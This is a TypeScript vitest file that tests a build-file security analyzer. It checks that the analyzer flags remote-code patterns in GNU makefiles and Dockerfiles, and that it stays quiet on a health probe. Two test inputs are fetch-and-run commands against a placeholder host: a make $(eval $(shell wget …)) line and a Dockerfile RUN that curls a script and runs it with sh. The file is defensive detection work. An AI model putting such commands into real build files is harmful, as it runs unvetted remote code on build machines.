// Held-back: written with the variants before the Make/exec-form reading, never used to tune it.
import { describe, expect, it } from 'vitest';
import { buildCommandsAnalyzer } from '../../../../src/core/analyzers/build/build-commands.js';
import { runAnalyzer } from '../../../helpers/analyzers.js';

const ids = (path: string, code: string) => runAnalyzer(buildCommandsAnalyzer, { path, code }).map((f) => f.ruleId);

describe('held-back: Make $(shell …) and exec-form RUN', () => {
  it('catches Make code downloaded and evaluated while the makefile is read', () => {
    expect(ids('GNUmakefile', '$(eval $(shell wget -qO- https://x.example/m.mk))\n')).toContain('build.remote-code');
  });
  it('catches an exec-form RUN that downloads to a file and runs it', () => {
    expect(ids('Dockerfile', 'FROM alpine\nRUN ["sh","-c","curl -o /tmp/x https://x.example/x && sh /tmp/x"]\n')).toContain('build.remote-code');
  });
  it('stays quiet on an exec-form health probe', () => {
    expect(ids('Dockerfile', 'FROM alpine\nRUN ["sh", "-c", "curl -fsS https://x.example/health || exit 1"]\n')).toEqual([]);
  });
});
